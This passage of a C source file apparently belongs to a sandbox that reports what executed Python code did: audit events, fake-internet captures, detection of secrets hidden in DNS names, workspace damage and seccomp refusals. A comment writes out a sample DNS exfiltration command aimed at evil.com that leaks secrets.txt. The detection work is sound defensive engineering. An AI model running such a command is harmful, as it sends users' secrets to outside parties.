/*
 * cpython_effects.c -- a CPython world's reply as effects: audit events
 * that matter (a program run, a request sent, a connection, native
 * code), what reached the fake internet, then the workspace's difference
 * from before the input (entries deleted, moved, overwritten, made
 * unreadable, created), then what the code printed; and what a
 * boundary (seccomp, Landlock, gVisor, an rlimit) refused.  What a cap
 * left out becomes the reply's truncated, never silence.  The workspace
 * as last seen (the session's copy) is bounded by what the world's
 * workspace can hold and what the session's memory cap leaves, and
 * keeps no entry the world may no longer have (struct keep).
 */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "base/arena.h"
#include "base/clock.h"
#include "cpython_int.h"
#include "fakenet.h"
#include "jail/jail.h"
#include "jail/jail_int.h"
#include "fs/mockfs.h"
#include "base/sbuf.h"
#include "wire.h"
#include "world.h"
#include "world_int.h"
#include "base/xalloc.h"
#include "jail/jail_sys.h"


/* ---------------------------------------------------------------- */
/* The reply as effects                                               */
/* ---------------------------------------------------------------- */

/* A piece of the world's data as it would ride in a DNS name. */
struct data_form {
	const char	*s;		/* lower-cased */
	size_t		 n;
	const char	*piece;		/* the data itself */
	const char	*how;		/* "" (as it is), "hex", "base32"... */
};


static void
add_effect(struct effects *e, const char *op, const char *target,
    const char *category, const char *text, const char *source)
{
	size_t i;

	for (i = 0; i < e->n; i++)	/* once each */
		if (strcmp(e->v[i].op, op) == 0 &&
		    strcmp(e->v[i].target, target) == 0 &&
		    strcmp(e->v[i].text, text) == 0) {
			/* the sink saw what the audit hook announced */
			if (source != NULL && strcmp(source, "sink") == 0)
				e->v[i].source = source;
			return;
		}
	if (e->n == e->cap) {
		size_t cap = e->cap ? e->cap * 2 : 16;
		e->v = arena_grow(e->a, e->v, e->cap, cap, sizeof *e->v);
		e->cap = cap;
	}
	e->v[e->n].op = op;
	e->v[e->n].target = target;
	e->v[e->n].category = category;
	e->v[e->n].text = text;
	e->v[e->n].source = source;
	e->n++;
}

static void
effect(struct effects *e, const char *op, const char *target,
    const char *category, const char *text)
{
	add_effect(e, op, target, category, text, e->source);
}

static bool
is_event(const struct raw_event *ev, const char *name)
{
	return strcmp(ev->name, name) == 0;
}

static const char *
arg(const struct raw_event *ev, size_t i)
{
	return i < ev->nargs ? ev->args[i] : "";
}

/* Data as the trace shows it: the first 200 bytes. */
static const char *
shown(struct arena *a, const char *s)
{
	return arena_printf(a, "%.200s", s);
}

static bool
is_write_mode(const char *mode)
{
	return strpbrk(mode, "wax+") != NULL;
}

/*
 * DNS exfiltration: data leaves in the name a lookup asks for
 * (`getent hosts $(cut -d= -f2 secrets.txt).evil.com`): the resolver
 * delivers the question, and so the data, to whoever serves the domain.
 * The world's data is what the session gave it: the values of its
 * environment and the workspace's files as they were before the input
 * (the first DATA_SCAN bytes of each).  Its pieces are the runs of
 * characters a DNS label can hold, at least DATA_PIECE_MIN long (shorter
 * runs are ordinary words of ordinary names: "report", "summary"); a
 * name carries a piece when it holds it as it is or hex-, base32- or
 * base64-encoded (standard or URL-safe), case aside, in one label or
 * across labels.  An encoded piece counts by the characters that do not
 * depend on its neighbours, at each alignment (as tests/corpus/corpuslib.py
 * finds the secret in the ground truth's captures).
 */
#define DATA_PIECE_MIN	8
#define DATA_PIECE_MAX	FAKENET_NAME_MAX
#define DATA_PIECES	256	/* looked for, at most */
#define DATA_SCAN	65536	/* bytes of a file looked through */

static bool
is_label_char(unsigned char ch)
{
	return (ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') ||
	    (ch >= '0' && ch <= '9') || ch == '-' || ch == '_';
}

static char
lower(char ch)
{
	return ch >= 'A' && ch <= 'Z' ? (char)(ch - 'A' + 'a') : ch;
}

static void
add_form(struct effects *e, const char *s, size_t n, const char *piece,
    const char *how)
{
	struct data_form *f;
	char *l;
	size_t i;

	if (n < DATA_PIECE_MIN || n > DATA_PIECE_MAX)
		return;
	l = arena_strndup(e->a, s, n);
	for (i = 0; i < n; i++)
		l[i] = lower(l[i]);
	e->forms = arena_grow(e->a, e->forms, e->nforms, e->nforms + 1,
	    sizeof *e->forms);
	f = &e->forms[e->nforms++];
	f->s = l;
	f->n = n;
	f->piece = piece;
	f->how = how;
}

/* The stable characters of piece p[0..n) encoded in groups of g bytes
 * to c characters of bits bits each from alphabet, at every alignment. */
static void
add_encoded(struct effects *e, const char *p, size_t n, unsigned g,
    unsigned c, unsigned bits, const char *alphabet, const char *how,
    const char *piece)
{
	char out[2 * DATA_PIECE_MAX + 8];
	unsigned k;

	for (k = 0; k < g; k++) {
		size_t first = (k + g - 1) / g, last = (k + n) / g, j, o = 0;

		for (j = first; j < last && o + c <= sizeof out; j++) {
			uint64_t v = 0;
			unsigned b, ch;

			for (b = 0; b < g; b++)	/* byte j*g+b of k zeros + p */
				v = v << 8 | (unsigned char)p[j * g + b - k];
			for (ch = 0; ch < c; ch++)
				out[o++] = alphabet[(v >> (bits * (c - 1 -
				    ch))) & ((1u << bits) - 1)];
		}
		add_form(e, out, o, piece, how);
	}
}

static void
add_piece(struct effects *e, const char *p, size_t n)
{
	static const char b32[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
	static const char b64[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	static const char b64url[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
	const char *piece;
	size_t i, forms = e->nforms;

	if (n < DATA_PIECE_MIN || n > DATA_PIECE_MAX)
		return;
	for (i = 0; i < forms; i++)	/* once each */
		if (e->forms[i].how[0] == 0 && e->forms[i].n == n &&
		    memcmp(e->forms[i].piece, p, n) == 0)
			return;
	piece = arena_strndup(e->a, p, n);
	add_form(e, p, n, piece, "");
	add_encoded(e, p, n, 1, 2, 4, "0123456789abcdef", "hex", piece);
	add_encoded(e, p, n, 5, 8, 5, b32, "base32", piece);
	add_encoded(e, p, n, 3, 4, 6, b64, "base64", piece);
	add_encoded(e, p, n, 3, 4, 6, b64url, "base64", piece);
}

/* Every piece of p[0..n), until DATA_PIECES of them are known. */
static void
add_pieces(struct effects *e, size_t *pieces, const char *p, size_t n)
{
	size_t i = 0, j;

	while (i < n && *pieces < DATA_PIECES) {
		while (i < n && !is_label_char((unsigned char)p[i]))
			i++;
		for (j = i; j < n && is_label_char((unsigned char)p[j]); j++)
			;
		if (j - i >= DATA_PIECE_MIN && j - i <= DATA_PIECE_MAX) {
			size_t before = e->nforms;
			add_piece(e, p + i, j - i);
			if (e->nforms > before)
				(*pieces)++;
		}
		i = j;
	}
}

static void
make_forms(struct effects *e)
{
	const struct cpy *c = e->c;
	size_t i, pieces = 0;

	e->has_forms = true;
	if (c == NULL)
		return;
	for (i = 0; i < c->nenv; i++) {
		const char *v = strchr(c->env[i], '=');
		v = v ? v + 1 : c->env[i];
		add_pieces(e, &pieces, v, strlen(v));
	}
	for (i = 0; c->files != NULL && i < mfs_count(c->files); i++) {
		size_t len;
		const char *d = mfs_get(c->files, mfs_name(c->files, i), &len);
		add_pieces(e, &pieces, d, len < DATA_SCAN ? len : DATA_SCAN);
	}
}

/* The world's data a DNS name carries, or NULL. */
static const struct data_form *
carried_in(struct effects *e, const struct fakenet_str *name)
{
	char l[FAKENET_NAME_MAX + 1], flat[FAKENET_NAME_MAX + 1];
	size_t i, n = 0, nl = name->n < FAKENET_NAME_MAX ? name->n :
	    FAKENET_NAME_MAX;

	if (!e->has_forms)
		make_forms(e);
	for (i = 0; i < nl; i++) {
		l[i] = lower(name->p[i]);
		if (l[i] != '.')
			flat[n++] = l[i];
	}
	for (i = 0; i < e->nforms; i++) {
		const struct data_form *f = &e->forms[i];
		if (memmem(l, nl, f->s, f->n) != NULL ||
		    memmem(flat, n, f->s, f->n) != NULL)
			return f;
	}
	return NULL;
}

/*
 * What the fake internet's sink saw (fakenet.h): data that reached it is
 * exfiltration, told as the request's URL, and so is a DNS question
 * whose name carries the world's data (above); a bare connection, a
 * refused one and any other DNS question are listed only.
 */
static void
on_capture(void *ctx, const struct fakenet_capture *cp, const void *frame,
    size_t len)
{
	struct effects *e = ctx;
	struct arena *a = e->a;
	const struct fakenet_str *data = cp->body.n > 0 ? &cp->body :
	    &cp->data;
	char url[512];

	(void)frame;
	(void)len;
	if (cp->kind == FAKENET_SYNC) {
		if (cp->flags & FAKENET_DROPPED)
			effect(e, "lost", "captures", NULL, arena_printf(a,
			    "%llu captures of the fake internet were lost",
			    (unsigned long long)cp->bytes));
		return;
	}
	fakenet_url(cp, url, sizeof url);
	if (cp->kind == FAKENET_DNS) {
		const struct data_form *f = carried_in(e, &cp->name);

		if (f != NULL) {
			const char *name = url + strlen("dns://");
			effect(e, "send", arena_strdup(a, url), "exfiltration",
			    arena_printf(a, "sent '%s'%s%s%s in a DNS question "
			    "for %s", shown(a, f->piece), f->how[0] ? " (" : "",
			    f->how, f->how[0] ? "-encoded)" : "", name));
			return;
		}
		effect(e, "resolve", arena_strndup(a, cp->name.p, cp->name.n),
		    NULL, arena_printf(a, "looked up %.*s", (int)cp->name.n,
		    cp->name.p));
		return;
	}
	if (cp->kind == FAKENET_TCP && e->c != NULL) {
		struct cpy *c = e->c;
		size_t i;

		for (i = 0; i < c->ntold && c->told[i].conn != cp->conn; i++)
			;
		if (i < c->ntold && c->told[i].bytes == cp->bytes)
			return;		/* nothing new on it */
		if (i == c->ntold) {
			if (c->ntold == sizeof c->told / sizeof c->told[0])
				i = 0;	/* forget the oldest */
			else
				c->ntold++;
			c->told[i].conn = cp->conn;
		}
		c->told[i].bytes = cp->bytes;
	}
	e->captured = true;
	if (cp->kind == FAKENET_SYN)
		effect(e, "connect", arena_strdup(a, url), NULL, arena_printf(a,
		    "tried to connect to %s (nothing listens there)", url));
	else if (data->n > 0)
		effect(e, "send", arena_strdup(a, url), "exfiltration",
		    arena_printf(a, "sent '%s' to %s", shown(a,
		    arena_strndup(a, data->p, data->n)), url));
	else
		effect(e, "connect", arena_strdup(a, url), NULL, arena_printf(a,
		    "connected to %s", url));
}

/* "starting a program (execve) is forbidden": the sentence after
 * "CONTAINED by seccomp: " (the errno the supervisor answered is in the
 * denied effect's text, denial_text). */
static const char *
refusal_text(struct arena *a, const char *call)
{
	const char *purpose = jail_syscall_purpose(call);

	return purpose != NULL ? arena_printf(a, "%s (%s) is forbidden",
	    purpose, call) : arena_printf(a, "the system call %s is "
	    "forbidden in the jail", call);
}

/* "seccomp refused execve (starting a program): EPERM" */
static const char *
denial_text(struct arena *a, const char *call, const char *err)
{
	const char *purpose = jail_syscall_purpose(call);

	return arena_printf(a, "seccomp refused %s (%s): %s", call,
	    purpose != NULL ? purpose : "a system call the jail does not "
	    "allow", err);
}

static void
event_effects(struct effects *e, const struct raw *r)
{
	struct arena *a = e->a;
	bool has_request = e->captured;	/* the sink tells what was sent */
	size_t i;

	for (i = 0; i < r->nevents; i++)
		if (is_event(&r->events[i], "urllib.Request"))
			has_request = true;
	for (i = 0; i < r->nevents; i++) {
		const struct raw_event *ev = &r->events[i];
		const char *n = ev->name;

		if (is_event(ev, "seccomp"))
			/* (only the jail kind's supervisor makes these) */
			effect(e, "denied", shown(a, arg(ev, 0)), NULL,
			    denial_text(a, arg(ev, 0), arg(ev, 1)));
		else if (is_event(ev, "os.system") ||
		    is_event(ev, "subprocess.Popen") ||
		    strncmp(n, "os.exec", 7) == 0 ||
		    strncmp(n, "os.posix_spawn", 14) == 0 ||
		    strncmp(n, "os.spawn", 8) == 0 || is_event(ev, "pty.spawn")) {
			const char *what = shown(a, arg(ev, is_event(ev,
			    "subprocess.Popen") ? 1 : 0));

			/* no process was created for it (pyrun.c's
			 * spawn_check): nothing ran, and why */
			if (i + 1 < r->nevents &&
			    is_event(&r->events[i + 1], NOSPAWN_EVENT)) {
				const struct raw_event *no = &r->events[++i];

				bool full = strcmp(arg(no, 0), "full") == 0;

				effect(e, "exec", what, full ?
				    "resource exhaustion" : NULL, full ?
				    arena_printf(a, "could not start a process: "
				    "the world's %s-process limit is full",
				    arg(no, 1)) : "could not start a process "
				    "(fork failed)");
			} else
				effect(e, "exec", what, "process",
				    "arbitrary code ran");
		}
		else if (is_event(ev, "os.fork") || is_event(ev, "os.forkpty"))
			effect(e, "fork", "python", "process",
			    "forked a process");
		else if (is_event(ev, NOSPAWN_EVENT))
			continue;
		else if (is_event(ev, FORKS_EVENT))
			/* (ours: forks.c; not a harm, so listed only) */
			effect(e, "ended", "python", NULL, arena_printf(a,
			    "%s cop%s of the interpreter that the code forked "
			    "and that never ran a program ended with the "
			    "input", arg(ev, 0), strcmp(arg(ev, 0), "1") == 0 ?
			    "y" : "ies"));
		else if (is_event(ev, "os.kill") || is_event(ev, "os.killpg"))
			effect(e, "kill", arg(ev, 0), "process",
			    arena_printf(a, "sent signal %s to process %s",
			    arg(ev, 1), arg(ev, 0)));
		else if (is_event(ev, "urllib.Request")) {
			const char *url = shown(a, arg(ev, 0));
			bool has_data = ev->nargs > 1 &&
			    strcmp(arg(ev, 1), "None") != 0;
			effect(e, "send", url, "exfiltration", has_data ?
			    arena_printf(a, "sent '%s' to %s",
			    shown(a, arg(ev, 1)), url) :
			    arena_printf(a, "fetched %s", url));
		} else if (is_event(ev, "socket.connect") ||
		    is_event(ev, "socket.sendto") ||
		    is_event(ev, "socket.sendmsg"))
			/* a request's own connection is told by the request */
			effect(e, "connect", shown(a, arg(ev, 1)),
			    has_request ? NULL : "exfiltration",
			    arena_printf(a, "connected to %s",
			    shown(a, arg(ev, 1))));
		else if (is_event(ev, "socket.getaddrinfo") ||
		    is_event(ev, "socket.gethostbyname"))
			effect(e, "resolve", shown(a, arg(ev, 0)), NULL,
			    arena_printf(a, "looked up %s", shown(a, arg(ev, 0))));
		else if (is_event(ev, "open"))
			effect(e, is_write_mode(arg(ev, 1)) ? "write" : "read",
			    shown(a, arg(ev, 0)), NULL, arena_printf(a, "%s %s",
			    is_write_mode(arg(ev, 1)) ? "opened for writing" :
			    "read", shown(a, arg(ev, 0))));
		else if (is_event(ev, "os.remove") || is_event(ev, "os.rmdir") ||
		    is_event(ev, "shutil.rmtree"))
			effect(e, "delete", shown(a, arg(ev, 0)), NULL,
			    arena_printf(a, "removed %s", shown(a, arg(ev, 0))));
		else if (is_event(ev, "os.rename") || is_event(ev, "shutil.move"))
			effect(e, "rename", shown(a, arg(ev, 0)), NULL,
			    arena_printf(a, "renamed %s to %s",
			    shown(a, arg(ev, 0)), shown(a, arg(ev, 1))));
		else if (strncmp(n, "ctypes.", 7) == 0)
			effect(e, "native", "ctypes", "process",
			    "ran native code through ctypes");
		else if (is_event(ev, "import"))
			effect(e, "import", shown(a, arg(ev, 0)), NULL,
			    arena_printf(a, "imported %s", shown(a, arg(ev, 0))));
		else
			effect(e, arena_strdup(a, n), shown(a, arg(ev, 0)), NULL,
			    arena_printf(a, "audit event %s", n));
	}
	if (r->dropped > 0)
		effect(e, "audit", "events", NULL, arena_printf(a,
		    "%u more audit events not shown", (unsigned)r->dropped));
}

/* Permission bits as ls shows them in octal: "644", "0" for none. */
static const char *
perm_text(struct arena *a, unsigned mode)
{
	return arena_printf(a, "%03o", mode & 07777);
}

/* A regular file created by this input with the same bytes as name:
 * where it was moved to, or NULL. */
static const char *
moved_to(const struct mfs *before, const struct mfs *after, const char *name,
    bool *taken)
{
	size_t i, n = mfs_count(after), l1, l2;
	const char *d1 = mfs_get(before, name, &l1), *d2;

	if (!S_ISREG(mfs_mode(before, mfs_index(before, name))))
		return NULL;
	for (i = 0; i < n; i++) {
		const char *to = mfs_name(after, i);
		if (taken[i] || mfs_exists(before, to) ||
		    !S_ISREG(mfs_mode(after, i)) || mfs_unreadable(after, i))
			continue;
		d2 = mfs_get(after, to, &l2);
		if (l1 == l2 && memcmp(d1, d2, l1) == 0) {
			taken[i] = true;
			return to;
		}
	}
	return NULL;
}

/*
 * The workspace before and after: the damage the code did to it.  An
 * entry gone is deleted, unless a new file holds its bytes (moved) or
 * the read-back cannot tell (unknown, per entry of before: see struct
 * keep); a
 * file whose bytes differ is overwritten; one the world can no longer
 * read was made unreadable (chmod); a new entry was created.  Paths are
 * the mfs's: "loot/" a directory, "loot/secrets.txt" a file in it.
 */
static void
diff_effects(struct effects *e, const struct mfs *before,
    const struct mfs *after, const bool *unknown, bool command)
{
	struct arena *a = e->a;
	size_t i, j, n = mfs_count(before);
	bool *taken = arena_array(a, mfs_count(after) + 1, sizeof *taken);

	for (i = 0; i < n; i++) {
		const char *name = mfs_name(before, i), *to;
		unsigned m1 = mfs_mode(before, i), m2;
		size_t l1, l2;
		const char *d1, *d2;

		if ((j = mfs_index(after, name)) == (size_t)-1) {
			if (unknown != NULL && unknown[i])
				continue;	/* not read back: maybe there */
			if ((to = moved_to(before, after, name, taken)) != NULL)
				effect(e, "rename", arena_strdup(a, name),
				    "damage", arena_printf(a, command ?
				    "moved %s to %s" : "%s moved to %s", name,
				    to));
			else
				effect(e, "delete", arena_strdup(a, name),
				    "damage", arena_printf(a, command ?
				    "deleted %s" : "%s deleted", name));
			continue;
		}
		m2 = mfs_mode(after, j);
		if (mfs_unreadable(after, j) && !mfs_unreadable(before, i)) {
			effect(e, "chmod", arena_strdup(a, name), "damage",
			    arena_printf(a, "%s made unreadable (mode %s)",
			    name, perm_text(a, m2)));
			continue;
		}
		d1 = mfs_get(before, name, &l1);
		d2 = mfs_get(after, name, &l2);
		if (!mfs_unreadable(after, j) &&
		    (l1 != l2 || memcmp(d1, d2, l1) != 0))
			effect(e, "write", arena_strdup(a, name), "damage",
			    arena_printf(a, command ? "overwrote %s" :
			    "%s overwritten", name));
		if ((m1 & 07777) != (m2 & 07777))
			effect(e, "chmod", arena_strdup(a, name), NULL,
			    arena_printf(a, "%s mode %s -> %s%s", name,
			    perm_text(a, m1), perm_text(a, m2),
			    mfs_unreadable(after, j) ? " (unreadable)" : ""));
	}
	n = mfs_count(after);
	for (i = 0; i < n; i++) {
		const char *name = mfs_name(after, i);
		if (taken[i] || mfs_exists(before, name))
			continue;
		effect(e, "write", arena_strdup(a, name), NULL,
		    arena_printf(a, command ? "wrote %s%s" : "created %s%s",
		    name, mfs_unreadable(after, i) ? arena_printf(a,
		    " (unreadable: mode %s)", perm_text(a, mfs_mode(after,
		    i))) : ""));
	}
}

/* Copy before's entry name into after, mode and mark included. */
static void
copy_entry(struct mfs *after, const struct mfs *before, const char *name)
{
	size_t len, i = mfs_index(before, name);
	const char *d = mfs_get(before, name, &len);

	mfs_put(after, name, d, len);
	mfs_set_mode(after, name, mfs_mode(before, i),
	    mfs_unreadable(before, i));
}

/*
 * What the session keeps of a read-back.  The world's workspace holds at
 * most WORLD_WS_BYTES and WORLD_WS_INODES entries, so a copy that holds
 * more is stale: its contents (what was read back, then what is kept
 * from before) are taken while they fit in room, at most that and at
 * most what the session's memory cap leaves for them (world_input's
 * files_cap).  An entry past room stays in the world only; an entry of
 * before that is not in the copy but may still be in the world is
 * unknown, and not told deleted (diff_effects).
 */
struct keep {
	uint64_t	 room;		/* bytes of contents left to take */
	uint64_t	 cap;		/* room at the start, for the note */
	bool		 by_session;	/* the session's cap set it */
	bool		*unknown;	/* per entry of before, or NULL */
	size_t		 dropped;	/* read back, past room */
	size_t		 emptied;	/* unreadable, old contents past room */
	size_t		 stale;		/* neither read back nor named */
	size_t		 over;		/* named, past room */
};

static void
keep_start(struct keep *k, uint64_t files_cap, const struct mfs *before,
    struct arena *a)
{
	memset(k, 0, sizeof *k);
	k->room = WORLD_WS_BYTES;
	if (files_cap > 0 && files_cap < k->room) {
		k->room = files_cap;
		k->by_session = true;
	}
	k->cap = k->room;
	k->unknown = arena_array(a, mfs_count(before) + 1, sizeof *k->unknown);
}

/* Take n bytes of room; false when they do not fit. */
static bool
take(struct keep *k, size_t n)
{
	if (n > k->room)
		return false;
	k->room -= n;
	return true;
}

/* Before's entry i is not in the copy, and may still be in the world. */
static void
unknown_at(struct keep *k, size_t i)
{
	if (i != (size_t)-1)
		k->unknown[i] = true;
}

/* What was read back, in name order while it fits; the rest stays in
 * the world (only a cap below the read-back's own 8 MiB cuts it). */
static void
keep_sent(struct keep *k, struct mfs *after, const struct mfs *before,
    struct arena *a)
{
	size_t i, n = mfs_count(after), nout = 0;
	const char **out = arena_array(a, n + 1, sizeof *out);

	for (i = 0; i < n; i++) {
		size_t len;
		const char *name = mfs_name(after, i);
		(void)mfs_get(after, name, &len);
		if (!take(k, len))
			out[nout++] = name;
	}
	for (i = 0; i < nout; i++) {
		unknown_at(k, mfs_index(before, out[i]));
		mfs_delete(after, out[i]);
		k->dropped++;
	}
}

/*
 * A file the world could not read keeps the contents it had when last
 * read (the session's copy), still marked unreadable, while they fit:
 * the files pane and a fresh world seeded from it (chmod included) have
 * them.  A file created unreadable has none.
 */
static void
keep_unreadable(struct keep *k, struct mfs *after, const struct mfs *before)
{
	size_t i, n = mfs_count(after);

	for (i = 0; i < n; i++) {
		const char *name = mfs_name(after, i);
		size_t j = mfs_index(before, name), len;
		unsigned mode = mfs_mode(after, i);
		const char *d;

		if (!mfs_unreadable(after, i) || !S_ISREG(mode) ||
		    j == (size_t)-1 || !S_ISREG(mfs_mode(before, j)))
			continue;
		d = mfs_get(before, name, &len);
		if (!take(k, len)) {
			k->emptied++;
			continue;
		}
		mfs_put(after, name, d, len);	/* (same sorted place) */
		mfs_set_mode(after, name, mode, true);
	}
}

/* Is path among the entries the caps left out (itself, or under a
 * directory left out)? */
static bool
unsent_has(const struct raw *r, const char *path)
{
	size_t off = 0;

	while (off < r->unsent_len) {
		const char *u = r->unsent + off;
		size_t n = strlen(u);
		if (strcmp(u, path) == 0 || (n > 0 && u[n - 1] == '/' &&
		    strncmp(u, path, n) == 0))
			return true;
		off += n + 1;
	}
	return false;
}

/*
 * The caps left entries out of the read-back (r->truncated): an entry of
 * before that was not sent keeps what it was only when the world named
 * it among those left out (itself, or under a directory left out), and
 * while it fits (struct keep).  One the world neither sent nor named is
 * gone when the world named every entry it left out; when it did not
 * (the names of the left out are cut at 4 KiB, a directory lists at most
 * 256, an unreadable directory's are unknown) it may be gone or not: it
 * is not kept, nor told deleted.  Keeping it made the session's copy
 * grow by what the code wrote and deleted each input, without bound.
 */
static void
merge_truncated(struct keep *k, struct raw *r, const struct mfs *before,
    const char **kept_names, size_t *nkept, size_t *named, size_t *lost,
    size_t *deep)
{
	size_t i, n = mfs_count(before), off = 0;

	*nkept = *named = *lost = *deep = 0;
	while (off < r->unsent_len) {
		const char *u = r->unsent + off;
		off += strlen(u) + 1;
		(*named)++;
		if (mfs_exists(r->files, u))
			(*deep)++;	/* a directory sent, not what it holds */
		else if (!mfs_exists(before, u))
			(*lost)++;
	}
	for (i = 0; i < n; i++) {
		const char *name = mfs_name(before, i);
		size_t len;

		if (mfs_exists(r->files, name))
			continue;
		if (!unsent_has(r, name)) {
			if (*named != r->left) {
				k->unknown[i] = true;
				k->stale++;
			}
			continue;	/* (else gone: deleted) */
		}
		(void)mfs_get(before, name, &len);
		if (mfs_count(r->files) >= WORLD_WS_INODES || !take(k, len)) {
			k->unknown[i] = true;
			k->over++;
			continue;
		}
		copy_entry(r->files, before, name);
		if (*nkept < 8)
			kept_names[*nkept] = name;
		(*nkept)++;
	}
}

/* n bytes as the notes say them: "16 MiB", "900 KiB". */
static const char *
size_text(struct arena *a, uint64_t n)
{
	if (n >= (1u << 20) && n % (1u << 20) == 0)
		return arena_printf(a, "%llu MiB", (unsigned long long)(n >> 20));
	return arena_printf(a, "%llu KiB", (unsigned long long)(n >> 10));
}

/*
 * What the read-back kept and left, as the reply's truncated (in a), or
 * NULL when it is whole: what was read back, what was kept from before,
 * how much stayed in the world without the path seeing it.
 */
static const char *
read_back_note(const struct cpy *c, struct raw *r, const struct mfs *before,
    struct keep *k, struct arena *a)
{
	const char *where = c->kind == WORLD_KIND_JAIL ? "jail" : "world";
	const char *kept_names[8], *note = NULL, *bound;
	size_t nkept = 0, named = 0, lost = 0, deep = 0, i;
	struct sbuf kept = SBUF_INIT;

	if (r->truncated) {
		merge_truncated(k, r, before, kept_names, &nkept, &named,
		    &lost, &deep);
		note = arena_printf(a, "the %s's workspace was read back in "
		    "part (at most %u files and %u MiB, %u levels deep)",
		    where, WW_MAX_FILES, WW_MAX_FILE_BYTES >> 20,
		    WW_MAX_DEPTH);
	}
	bound = arena_printf(a, "the path keeps at most %s of a %s's files "
	    "(%s)", size_text(a, k->cap), where, k->by_session ?
	    "what the session's memory cap leaves" : "its workspace's size");
	if (k->dropped > 0)
		note = arena_printf(a, "%s%s%zu file%s read back not kept: %s",
		    note ? note : "", note ? "; " : "", k->dropped,
		    k->dropped == 1 ? "" : "s", bound);
	if (k->emptied > 0)
		note = arena_printf(a, "%s%sthe old contents of %zu unreadable "
		    "file%s not kept: %s", note ? note : "", note ? "; " : "",
		    k->emptied, k->emptied == 1 ? "" : "s", bound);
	if (note == NULL)
		return NULL;
	for (i = 0; i < nkept && i < 8; i++)
		sbuf_addf(&kept, "%s%s", i > 0 ? ", " : "", kept_names[i]);
	if (nkept > 0)
		note = arena_printf(a, "%s; %zu file%s not read back kept as "
		    "before this step: %s%s", note, nkept,
		    nkept == 1 ? "" : "s", sbuf_cstr(&kept),
		    nkept > 8 ? ", ..." : "");
	if (k->over > 0)
		note = arena_printf(a, "%s; %zu more file%s not read back left "
		    "in the %s, not kept: %s", note, k->over,
		    k->over == 1 ? "" : "s", where, bound);
	if (k->stale > 0)
		note = arena_printf(a, "%s; %zu earlier file%s neither read "
		    "back nor named not kept (the %s may still hold %s)",
		    note, k->stale, k->stale == 1 ? "" : "s", where,
		    k->stale == 1 ? "it" : "them");
	if (lost > 0)
		note = arena_printf(a, "%s; %zu file%s left in the %s", note,
		    lost, lost == 1 ? "" : "s", where);
	if (deep > 0)
		note = arena_printf(a, "%s; what %zu director%s hold%s left in "
		    "the %s", note, deep, deep == 1 ? "y" : "ies",
		    deep == 1 ? "s" : "", where);
	if (r->truncated && r->left > named)
		note = arena_printf(a, "%s; %zu more entr%s left in the %s "
		    "unnamed", note, (size_t)(r->left - named),
		    r->left - named == 1 ? "y" : "ies", where);
	sbuf_free(&kept);
	return note;
}

/* What the world's caps cut (K frames), after note, as the record's
 * "truncated". */
static const char *
cut_notes(const struct raw *r, struct arena *a, const char *note)
{
	size_t i;

	for (i = 0; i < WW_CUT__COUNT; i++) {
		unsigned long long n = (unsigned long long)r->cut[i];
		const char *s = NULL;

		if (n == 0)
			continue;
		switch ((enum ww_cut)i) {
		case WW_CUT_RESULT:
			s = arena_printf(a, "the value's repr cut at %u KiB "
			    "(of %llu bytes)", WW_MAX_RESULT >> 10, n);
			break;
		case WW_CUT_MESSAGE:
			s = arena_printf(a, "the command's message cut at %u "
			    "KiB (of %llu bytes)", WW_MAX_RESULT >> 10, n);
			break;
		case WW_CUT_OUTPUT:
			s = arena_printf(a, "output cut at %u KiB (the code "
			    "printed %llu bytes)", WW_MAX_OUTPUT >> 10, n);
			break;
		case WW_CUT_NAMES:
			s = arena_printf(a, "%llu name%s not listed (the world "
			    "keeps them; the list holds %u KiB)", n, n == 1 ?
			    "" : "s", WW_MAX_NAMES >> 10);
			break;
		case WW_CUT_EVENTS:
			s = arena_printf(a, "the text of %llu audit event%s "
			    "cut at %u bytes", n, n == 1 ? "" : "s",
			    WW_MAX_EVENT);
			break;
		case WW_CUT__COUNT:
			break;
		}
		note = note == NULL ? s : arena_printf(a, "%s; %s", note, s);
	}
	return note;
}

/*
 * The output file's {stream, text} frames (output.c) as chunks, in the
 * order written, neighbours of one stream joined.  The code can write to
 * that file too: what does not parse is stdout text, never dropped.
 * *total is the text's length.
 */
static struct world_chunk *
output_chunks(struct arena *a, const char *p, size_t len, size_t *n,
    size_t *total)
{
	struct world_chunk *v = arena_array(a, len / 5 + 2, sizeof *v);
	size_t k = 0, off = 0;

	*total = 0;
	while (off < len) {
		const char *stream = "stdout", *text = p + off;
		size_t tlen = len - off;
		uint32_t l;

		if (len - off >= 5 && (p[off] == 'o' || p[off] == 'e')) {
			memcpy(&l, p + off + 1, 4);
			stream = p[off] == 'e' ? "stderr" : "stdout";
			text = p + off + 5;
			tlen = l <= len - off - 5 ? l : len - off - 5;
			off += 5 + tlen;
		} else
			off = len;	/* not ours: the rest as it is */
		if (tlen == 0)
			continue;
		if (k > 0 && strcmp(v[k - 1].stream, stream) == 0) {
			char *j = arena_alloc(a, v[k - 1].len + tlen + 1);
			memcpy(j, v[k - 1].text, v[k - 1].len);
			memcpy(j + v[k - 1].len, text, tlen);
			j[v[k - 1].len + tlen] = '\0';
			v[k - 1].text = j;
			v[k - 1].len += tlen;
		} else {
			v[k].stream = stream;
			v[k].text = arena_strndup(a, text, tlen);
			v[k].len = tlen;
			k++;
		}
		*total += tlen;
	}
	*n = k;
	return v;
}

/* The chunks' text as one string (total bytes). */
static const char *
output_text(struct arena *a, const struct world_chunk *v, size_t n,
    size_t total)
{
	char *s = arena_alloc(a, total + 1), *q = s;
	size_t i;

	for (i = 0; i < n; i++) {
		memcpy(q, v[i].text, v[i].len);
		q += v[i].len;
	}
	*q = '\0';
	return s;
}

void
cpy_free_names(struct cpy *c)
{
	size_t i;

	for (i = 0; i < c->nnames; i++)
		free(c->names[i]);
	free(c->names);
	c->names = NULL;
	c->nnames = 0;
	for (i = 0; i < 2 * c->nlits; i++)
		free(c->lits[i]);
	free(c->lits);
	c->lits = NULL;
	c->nlits = 0;
}

/* Keep the literals the world sent with its names (none when it was not
 * asked). */
static void
